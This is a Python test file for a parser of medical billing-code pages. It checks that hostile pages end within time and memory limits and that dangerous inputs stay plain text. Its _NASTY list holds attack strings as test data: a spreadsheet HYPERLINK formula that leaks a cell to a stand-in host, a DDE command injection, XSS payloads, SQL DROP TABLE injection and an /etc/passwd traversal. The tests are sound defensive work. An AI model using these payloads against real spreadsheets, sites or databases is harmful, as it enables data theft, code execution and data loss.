"""Law 10: a page is data. Whatever it holds, it ends in an outcome, within the stated limits of time and memory."""

from __future__ import annotations

import html
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from parsers import parse, result_too_large
from parsers.limits import MAX_BYTES, MAX_MEMORY
from parsers.records import Descriptor, HistoryEvent, Narrative, RelatedCode
from tests.parsers.hostile_pages import OPENPAYER, PAGES, URL

_ROOT = Path(__file__).parents[2]
_SECONDS = 5.0  # of a processor, for the worst page: a quarter of what the time limit gives
# The quick run tries those that once took minutes, memory or recursion; the full run tries all.
_QUICK = [
    "nested past stray end tags",
    "nested in an ignored script",
    "nested pictures with stray end tags",
    "comments",
    "a million attributes behind a quoted end",
    "wrapped tables",
    "inline tags around a late block",
    "an entity bomb",
    "a fake code list in HTML",
    "a fake code list in bars",
    "surrogates in UTF-8",
]


def _check(name: str) -> None:
    """Parse the page in a process of its own, and measure it."""
    command = [sys.executable, "-m", "tests.parsers.hostile_pages", name]
    done = subprocess.run(command, cwd=_ROOT, capture_output=True, text=True, timeout=120, check=True)
    found = json.loads(done.stdout)
    assert found["outcome"] not in ("failed", "parsed"), found
    assert found["accounted"], found
    assert found["seconds"] < _SECONDS, found
    assert found["peak"] < MAX_MEMORY, found


@pytest.mark.parametrize("name", _QUICK)
def test_law_10_hostile_pages_end_in_an_outcome_within_the_limits(name: str):
    _check(name)


@pytest.mark.full
@pytest.mark.parametrize("name", sorted(PAGES.keys() - set(_QUICK)))
def test_law_10_all_hostile_pages_end_in_an_outcome_within_the_limits(name: str):
    _check(name)


def test_law_10_a_page_of_200_mb_is_refused_without_being_read():
    payload = b"\x00" * 200 * 1024 * 1024
    begun = time.process_time()
    result = parse(payload, URL)
    assert time.process_time() - begun < 0.1
    assert result == result_too_large(URL, len(payload))
    assert (result.outcome, result.reason) == ("rejected", f"over a limit: bytes: limit {MAX_BYTES}, found 209715200")


_NASTY = [
    '=HYPERLINK("https://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE codes; --",
    "../../etc/passwd",
    "{{7*7}} ${7*7} %(x)s %s {0}",
    "\\u0000 \\x00 &amp;#0;",
    "a\\nb",
]


@pytest.mark.parametrize("form", ["html", "text"])
@pytest.mark.parametrize("nasty", _NASTY)
def test_law_10_markup_formulas_and_paths_stay_text(nasty: str, form: str):
    cell = nasty.replace("|", "\\|") if form == "text" else html.escape(nasty)
    rows = [
        ("Short Descr", cell),
        ("Status Code", "Active Code"),
        ("Date", "Action", "Notes"),
        ("2023-01-01", "Added", cell),
    ]
    if form == "text":
        page = "\n".join(" | ".join(row) + " |" for row in rows)
    else:
        lines = "".join(f"<tr><td>{'</td><td>'.join(row)}</td></tr>" for row in rows)
        page = f"<html><body><p>{cell}</p><table>{lines}</table></body></html>"
    result = parse(page.encode(), URL)
    assert result.outcome == "parsed", result.reason
    assert [r.text for r in result.records if isinstance(r, Descriptor)] == [nasty]
    assert [r.notes for r in result.records if isinstance(r, HistoryEvent)] == [nasty]


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("bell\x07 and escape\x1b[31m", "bell and escape [31m"),
        ("null\x00null", "null null"),
        ("bidi \u202etxet\u202c", "bidi txet"),
        ("line\u2028separator", "line separator"),
        ("zero\u200bwidth", "zerowidth"),
    ],
)
def test_law_10_no_control_or_bidi_character_reaches_a_record(raw: str, text: str):
    page = f"Summary & Overview\nCPT 1001T: x\n{raw}\nBilling Code Overview\ny\nClinical Context\nz"
    for payload in (page, page.replace("\n", "</p><p>").join(["<p>", "</p>"])):
        result = parse(payload.encode(), OPENPAYER)
        texts = [r.text for r in result.records if isinstance(r, Narrative)] + [b.text for b in result.unmapped]
        assert text in texts


def test_law_10_a_path_in_a_code_is_no_code():
    rows = "| ../../99213 | x |\n| 99213/.. | x |\n| 99213 | x |\n"
    page = (
        "Summary & Overview\nCPT 1001T: Synthetic\nBilling Code Overview\nSynthetic.\nClinical Context\nSynthetic.\n"
        "Coding Specifications\n| Related Code | Description |\n|---|---|\n"
    )
    result = parse((page + rows).encode(), OPENPAYER)
    assert [r.related_code for r in result.records if isinstance(r, RelatedCode)] == ["99213"]
    assert [w.rule for w in result.warnings] == ["unreadable_code", "unreadable_code"]
    assert len([b for b in result.unmapped if b.kind == "pair"]) == 2
